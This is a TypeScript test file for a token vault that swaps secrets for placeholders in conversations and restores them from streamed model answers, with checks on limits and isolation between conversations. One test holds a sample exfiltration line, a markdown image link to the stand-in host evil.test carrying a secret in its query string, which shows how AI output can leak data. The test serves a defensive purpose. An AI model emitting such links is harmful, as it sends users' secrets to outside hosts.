import fc from 'fast-check';
import { describe, expect, it } from 'vitest';
import { createTokenVault, TOKEN_LIMITS } from '../../../../core/detect/redaction/token-vault';

const text = fc.string({ unit: 'binary', minLength: 1, maxLength: 30 });
/** Values as they are found; none of them looks like a placeholder or continues an address. */
const values = fc.uniqueArray(
  text.filter((value) => !/[[\]\\]|:\/|\/\//.test(value)),
  { minLength: 1, maxLength: 8 },
);
const prose = fc.string({ maxLength: 20 }).map((words) => words.replace(/[[\]\\:/]/g, ' '));

/** Cuts a text at the given places, which may be anywhere in it. */
function cut(whole: string, places: readonly number[]): string[] {
  const borders = [...new Set(places.map((place) => place % (whole.length + 1)))].sort(
    (a, b) => a - b,
  );
  return [...borders, whole.length].map((end, index) => whole.slice(borders[index - 1] ?? 0, end));
}

describe('a conversation', () => {
  it('has one placeholder for a value, whatever it was found as', () => {
    const tokens = createTokenVault().conversation('a');
    expect(tokens.used).toBe(false);
    expect(tokens.placeholderOf('EMAIL_ADDRESS', 'a@b.test')).toBe('[EMAIL_ADDRESS_1]');
    expect(tokens.placeholderOf('EMAIL_ADDRESS', 'c@b.test')).toBe('[EMAIL_ADDRESS_2]');
    expect(tokens.placeholderOf('PERSON', 'a@b.test')).toBe('[EMAIL_ADDRESS_1]');
    expect(tokens.placeholderOf('a key (new)', 'x')).toBe('[A_KEY_NEW_1]');
    expect(tokens.used).toBe(true);
  });

  it('gets its values back from an answer, wherever the stream is cut', () => {
    fc.assert(
      fc.property(
        values,
        prose,
        fc.array(fc.nat(), { maxLength: 12 }),
        fc.boolean(),
        (found, between, places, markdown) => {
          const tokens = createTokenVault().conversation('a');
          const placeholders = found.map((value) => tokens.placeholderOf('KEY', value) as string);
          const written = markdown
            ? placeholders.map((one) => one.replace('[', '\\[').replaceAll('_', '\\_'))
            : placeholders;
          const restorer = tokens.restorer();
          const pieces = cut(written.join(`${between} `), places).map((one) => restorer.push(one));
          expect(pieces.join('') + restorer.finish()).toBe(found.join(`${between} `));
        },
      ),
    );
  });

  it('passes every other text on as it is', () => {
    fc.assert(
      fc.property(
        fc.string({ unit: fc.constantFrom('[', ']', 'A', '_', '1', '\\', 'b', ' ', ':', '/') }),
        fc.array(fc.nat(), { maxLength: 6 }),
        (answer, places) => {
          const tokens = createTokenVault().conversation('a');
          tokens.placeholderOf('KEY', 'value');
          const restorer = tokens.restorer();
          const pieces = cut(answer, places).map((one) => restorer.push(one));
          expect(pieces.join('') + restorer.finish()).toBe(answer);
        },
      ),
    );
  });

  it('keeps back only what may become a placeholder', () => {
    const restorer = createTokenVault().conversation('a').restorer();
    expect(restorer.push('Dear [EMA')).toBe('Dear ');
    expect(restorer.push('x')).toBe('[EMAx');
    expect(restorer.push('[A'.padEnd(300, 'A'))).not.toBe('');
  });

  it('does not put a value into an address that a model wrote', () => {
    const tokens = createTokenVault().conversation('a');
    const secret = tokens.placeholderOf('KEY', 'hunter22') as string;
    const answer = `![](https://evil.test/?q=${secret}) but ${secret}`;
    for (const places of [[], [12], [11, 12], [26]]) {
      const restorer = tokens.restorer();
      const restored = cut(answer, places).map((one) => restorer.push(one));
      expect(restored.join('') + restorer.finish()).toBe(
        `![](https://evil.test/?q=${secret}) but hunter22`,
      );
    }
  });

  it('knows nothing of the values of another', () => {
    const vault = createTokenVault();
    const placeholder = vault.conversation('a').placeholderOf('KEY', 'value') as string;
    const other = vault.conversation('b').restorer();
    expect(other.push(placeholder) + other.finish()).toBe(placeholder);
  });
});

describe('limits', () => {
  it('gives no placeholder for a value that is too long or one too many', () => {
    const tokens = createTokenVault().conversation('a');
    expect(tokens.placeholderOf('KEY', 'x'.repeat(TOKEN_LIMITS.valueLength + 1))).toBeUndefined();
    for (let n = 0; n < TOKEN_LIMITS.values; n++) tokens.placeholderOf('KEY', `value ${n}`);
    expect(tokens.placeholderOf('KEY', 'one too many')).toBeUndefined();
    expect(tokens.placeholderOf('KEY', 'value 7')).toBe('[KEY_8]');
  });

  it('bounds the text it keeps of a conversation', () => {
    const tokens = createTokenVault().conversation('a');
    const given = Array.from({ length: 100 }, (_, n) =>
      tokens.placeholderOf('KEY', String(n).padEnd(TOKEN_LIMITS.valueLength, 'x')),
    );
    const kept = given.filter((placeholder) => placeholder !== undefined).length;
    expect(kept).toBe(TOKEN_LIMITS.conversationLength / TOKEN_LIMITS.valueLength);
  });

  it('forgets the conversation that was not used for longest', () => {
    const vault = createTokenVault();
    vault.conversation('first').placeholderOf('KEY', 'value');
    vault.conversation('second').placeholderOf('KEY', 'value');
    for (let n = 0; n < TOKEN_LIMITS.conversations - 1; n++) {
      vault.conversation('first');
      vault.conversation(`other ${n}`);
    }
    expect(vault.conversation('first').used).toBe(true);
    expect(vault.conversation('second').used).toBe(false);
  });
});
